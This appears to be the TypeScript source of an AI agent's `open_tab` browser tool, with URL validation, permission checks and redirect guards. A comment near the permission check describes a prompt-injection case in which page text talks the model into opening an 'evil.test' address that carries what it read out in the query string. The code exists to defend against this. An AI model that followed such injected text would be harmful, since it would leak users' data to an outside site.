/** `open_tab`: opens a URL in a new tab of the run's window. */
import { z } from 'zod';
import { ToolError } from '../../runtime/errors.js';
import { guardLanding, landingBlockedPayload } from '../../runtime/execute-trust.js';
import { buildTool } from '../../runtime/tool.js';
import { guardFor } from '../safety/judge.js';
import { judgeOpenTabCall } from '../safety/judge-navigation.js';
import { originOf } from '../../runtime/permission-rules.js';
import { requireBrowser, tabView, type TabView } from './tab-call.js';
import { browserToolEnabled } from '../availability.js';

const inputSchema = z.strictObject({
  url: z.string().min(1).max(8_000).describe('The absolute http:// or https:// URL to open, e.g. "https://example.com/page" (at most 8,000 characters).'),
  active: z
    .boolean()
    .default(true)
    .describe('true (default): show the new tab and make it the run’s current tab; false: open it in the background and keep the current tab.'),
});

/** What `open_tab` returns. */
export interface OpenTabOutput extends TabView {
  /** True when the new tab became the run's current tab. */
  current: boolean;
}

/** Opens a URL in a new tab; when active, the new tab becomes the run's current tab. */
export const openTab = buildTool<typeof inputSchema, OpenTabOutput>({
  name: 'open_tab',
  aliases: ['new_tab', 'browser_tab_new'],
  isEnabled: browserToolEnabled,
  searchHint: 'new page load web address url',
  outputIsUntrusted: true,
  inputSchema,
  prompt: [
    'Opens a URL in a new tab of this window and waits (up to about 30 seconds) for the page to load.',
    'With `active: true` (default) the tab is shown and becomes your current tab: page tools without `tab_id` then act on it. With `active: false` it opens in the background; pass its `tab_id` to page tools or call switch_tab later.',
    'Returns its `tab_id`, title and URL. To load a page in the current tab use navigate.',
  ].join('\n'),
  description: (input) => `Open ${input.url} in a new ${input.active ? '' : 'background '}tab`,
  validateInput(input) {
    let protocol: string;
    try {
      protocol = new URL(input.url).protocol;
    } catch {
      return {
        ok: false,
        code: 'INVALID_URL',
        message: `"${input.url}" is not an absolute URL.`,
        suggestion: 'Give a full URL such as "https://example.com/".',
      };
    }
    if (protocol !== 'http:' && protocol !== 'https:') {
      return {
        ok: false,
        code: 'INVALID_URL',
        message: `open_tab opens only http and https URLs, not ${protocol} ones.`,
        suggestion: 'Give an http:// or https:// URL.',
      };
    }
    return { ok: true };
  },
  permissionSubject: (input) => originOf(input.url),
  // Why it must stay: a tab on another site can carry data out in its address (a page's text may have
  // talked the model into "open https://evil.test/?q=<what you read>"), so like navigate to another
  // site it asks the person, also in auto mode; so does an address carrying text read on another site.
  // Same-site tabs follow the mode and site grants.
  checkPermissions: (input, context) => judgeOpenTabCall(input, context),
  interruptBehavior: () => 'block',
  maxResultSizeChars: 5_000,
  async call(input, context) {
    const browser = requireBrowser(context);
    // Opened blank (shown at once when active, as the bridge decides: a helper's tabs stay in the background).
    let tab = await browser.openTab('about:blank', { active: input.active, windowId: context.windowId });
    // The new tab loads the address only once it is held to the judged landing: a redirect to another site is stopped before it leaves.
    const spec = guardFor(tab.id, undefined, input.url);
    // A guard the browser could not set: the tab goes, unloaded (fails closed, as for every act: src/runtime/execute-trust.ts).
    const guard = await guardLanding(context, spec).catch(async (error: unknown) => {
      await browser.closeTab(tab.id).catch(() => undefined);
      throw error;
    });
    try {
      tab = await browser.navigate(tab.id, { url: input.url }, context.abortController.signal).catch((error: unknown) => {
        if (guard && guard.blocked().length > 0) return tab;
        throw error;
      });
      const blocked = guard?.blocked() ?? [];
      if (blocked.length > 0) {
        await browser.closeTab(tab.id).catch(() => undefined);
        const { code, message, suggestion, ...details } = landingBlockedPayload(blocked, 'open_tab');
        throw new ToolError(code, message.replace('The tab stays where it was.', 'The new tab was closed.'), { suggestion, details });
      }
    } finally {
      await guard?.release().catch(() => undefined);
    }
    const output: OpenTabOutput = { ...tabView(tab), current: input.active };
    if (!input.active) return { data: output };
    return { data: output, contextModifier: (prior) => ({ ...prior, currentTabId: tab.id }) };
  },
});
